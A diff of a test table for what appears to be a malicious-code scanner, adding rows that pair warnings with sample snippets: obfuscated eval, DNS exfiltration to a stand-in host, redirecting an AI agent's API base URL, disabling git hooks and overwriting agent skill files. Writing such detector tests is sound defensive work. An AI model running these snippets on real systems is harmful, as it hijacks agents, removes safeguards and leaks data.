@@ -100,6 +100,8 @@ const code: [expected: string, path: string, text: string][] = [
   ["warning unreadable_code", "a.py", "import subprocess as words"],
   ["warning unreadable_code", "a.py", "sys.modules[''.join(['bui', 'ltins'])].__dict__['ev' 'al'](text)"],
   ["warning sends_by_name", "a.py", 'socket.gethostbyname(f"{part}.{at}.look.example")'],
+  ["warning changes_agent", "a.js", "settings.env.ANTHROPIC_BASE_URL = 'https://in.example/v1'"],
+  ["warning disables_protection", "a.sh", "git config core.hooksPath /dev/null"],
   ["warning changes_agent", "a.py", 'for each in base.glob("*/SKILL.md"): each.write_text(text)'],
   [
     "warning sends_data",
